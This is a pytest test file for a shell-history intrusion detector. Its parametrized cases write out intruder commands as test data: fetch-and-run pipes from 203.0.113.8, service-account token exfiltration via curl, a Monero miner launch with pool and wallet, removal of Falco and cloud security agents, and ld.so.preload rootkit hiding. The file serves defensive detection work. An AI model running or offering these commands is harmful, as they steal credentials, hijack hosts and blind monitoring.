"""What people type, judged: intruders' lines beside administrators'."""

from __future__ import annotations

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kubewitness.detect.host.finding import HostFinding
from kubewitness.detect.host.judging import judge
from kubewitness.model.evidence import Place
from kubewitness.model.host import Host, HostEvent
from kubewitness.sources.host import shell_history
from tests.corpus import CORPUS, needs_corpus
from tests.detect.host.making import found
from tests.sources.host.reading import context, lines

WALLET = "46EPFzvnX5GH61ejkPpNcRNm8kVjs8oHS9VwCkKRCrJX27XEW2y1NPLfSa54DGHxqnKfzDUVW1jzBfekk3hrCVCm"


def typed(*commands: str, user: str = "root") -> Host:
    events = [
        HostEvent("command", "shell_history", Place("root/.bash_history", number, 0), user=user, command=command)
        for number, command in enumerate(commands, 1)
    ]
    return Host("n", events=events)


def judged(*commands: str) -> HostFinding | None:
    return next(iter(found(typed(*commands), "typed_commands")), None)


def test_a_miner_with_pool_and_wallet_is_an_intrusion() -> None:
    finding = judged(f"cd /var/tmp; ./.system -o pool.supportxmr.com:3333 --donate-level=1 -u {WALLET} -B")
    assert finding
    assert (finding.severity, finding.kind, finding.confidence) == ("high", "intrusion", "high")
    assert finding.addresses == ("pool.supportxmr.com",)


@pytest.mark.parametrize(
    "command",
    [
        "curl -fsSL http://203.0.113.8/x.sh | bash",
        "wget http://203.0.113.8/a -O /tmp/.x1mr; sh /tmp/.x1mr",
        "echo aWQK | base64 -d | sh",
        "masscan 10.0.0.0/8 -p10250 --rate=20000",
        "systemctl stop falco.service",
        "service aliyun.service stop && chkconfig --level 35 aliyun.service off",
        "pkill -9 AliYunDun",
        "rm -rf /usr/local/aegis",
        "/usr/local/qcloud/stargate/admin/uninstall.sh; rm -rf /usr/local/qcloud/YunJing",
        "kubectl -n falco delete ds falco",
        "echo /usr/local/lib/libprocesshider.so >> /etc/ld.so.preload",
        "echo /etc/rig.so | tee -a /etc/ld.so.preload",
        "chattr +ia /root/.ssh/authorized_keys",
        "chattr -R +i /var/spool/cron",
        "cat /var/run/secrets/kubernetes.io/serviceaccount/token | curl -d @- http://203.0.113.8/k",
        "./.x",
    ],
)
def test_lines_of_intruders_are_activity_and_medium_at_most(command: str) -> None:
    finding = judged("ls", command)
    assert finding
    assert (finding.severity, finding.kind, finding.count) == ("medium", "activity", 1)


@pytest.mark.parametrize(
    "command",
    [
        "curl -fsSL https://get.docker.com | sh",
        "iptables -F",
        "iptables -P INPUT ACCEPT && iptables -t nat -F",
        "ufw disable",
        "systemctl disable --now firewalld",
        "nmap -p 22 10.0.0.0/24 --max-rate 10",
        "masscan --version",
        "cat /var/lib/kubelet/pki/kubelet-client-current.pem",
        'curl -sk -H "Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)" https://kubernetes.default.svc/api',
        "chattr +i /etc/resolv.conf",
        "/tmp/install.sh",
    ],
)
def test_what_administrators_do_too_stays_low(command: str) -> None:
    finding = judged(command)
    assert finding
    assert (finding.severity, finding.kind, finding.confidence) == ("low", "activity", "low")


@pytest.mark.parametrize(
    "command",
    [
        "iptables -L -n -v",
        "iptables-save > /root/fw",
        "history",
        "wget https://example.com/file.tar.gz",
        "curl -sSL https://example.com/a.tgz -o a.tgz && tar xzf a.tgz",
        "source ~/.bashrc",
        ". ~/.profile",
        "source ./.venv/bin/activate",
        "cat /etc/ld.so.preload",
        "systemctl restart auditd",
        "systemctl status falco",
        "systemctl stop nginx",
        "kubectl get ds falco -n falco",
        "cp -i /etc/kubernetes/admin.conf $HOME/.kube/config",
        "export KUBECONFIG=/etc/kubernetes/admin.conf",
        "ls -l /var/lib/kubelet/pki/",
        "lsattr /etc/passwd; chattr -i /etc/passwd",
        "grep -r stratum+tcp /etc",
        "apt install masscan",
        "cd xmrig && ls",
        "kill -9 4411",
        "docker run -o x:3333 nginx",
        "vim /etc/cron.d/x",
    ],
)
def test_lines_of_every_day_are_silent(command: str) -> None:
    assert judged(command) is None


def test_each_user_has_one_finding_that_names_them() -> None:
    machine = typed("iptables -F", "curl http://203.0.113.8/x | sh", user="eve")
    machine.events += typed("iptables -F", user="root").events
    by_user = found(machine, "typed_commands")
    assert [(one.subject.split(":")[0], one.severity, one.count) for one in by_user] == [
        ("eve", "medium", 2), ("root", "low", 1)
    ]  # fmt: skip
    assert by_user[0].places[0][1] == "curl http://203.0.113.8/x | sh"  # the worst first


def test_many_users_are_bounded() -> None:
    machine = Host("n", events=[one for n in range(200) for one in typed("iptables -F", user=f"u{n}").events])
    findings = found(machine, "typed_commands")
    assert (len(findings), sum(one.count for one in findings)) == (50, 200)


@needs_corpus
def test_nothing_is_said_of_real_histories_of_clean_machines() -> None:
    assert CORPUS
    samples = [*CORPUS.rglob("history.out"), *(CORPUS / "log2timeline__plaso/test_data").glob("*history*")]
    assert len(samples) >= 4
    for sample in samples:
        events = [
            fact for fact in shell_history.read(lines(sample.read_text()), context("n/history.txt"))
            if isinstance(fact, HostEvent)
        ]  # fmt: skip
        assert all(one.severity == "low" for one in found(Host("n", events=events), "typed_commands")), sample


@pytest.mark.parametrize(
    "command",
    [
        "cat " * 3000,
        "cat /var/lib/kubelet/pki/" * 400,
        "systemctl stop " + "falco-" * 2000,
        "rm /opt/falco" + "/" * 8000,
        "sh " + "uninstall" * 900,
        "chattr +" + "i" * 8000,
        "> " * 4000 + "/etc/ld.so.preload",
        "iptables " + "-F " * 2000,
    ],
)
def test_long_lines_cost_no_time(command: str) -> None:
    began = time.process_time()
    judged(command)
    assert time.process_time() - began < 1


@settings(max_examples=60)
@given(
    st.lists(
        st.sampled_from(
            [
                ">",
                "|",
                "/etc/ld.so.preload",
                "chattr",
                "+i",
                "sh",
                "curl",
                "systemctl",
                "stop",
                "falco",
                "$(",
                "`",
                "-P",
                "iptables",
                "echo",
                "history",
                "HISTFILE=",
                "\0",
                "\x1b[2J",
                "\n",
                "journalctl",
                "--vacuum-time",
                "ln",
                ".",
            ]
        )
        | st.text(max_size=6),
        max_size=8,
    )
)
def test_no_line_breaks_a_rule(words: list[str]) -> None:
    judge(typed(" ".join(words), "".join(words)))
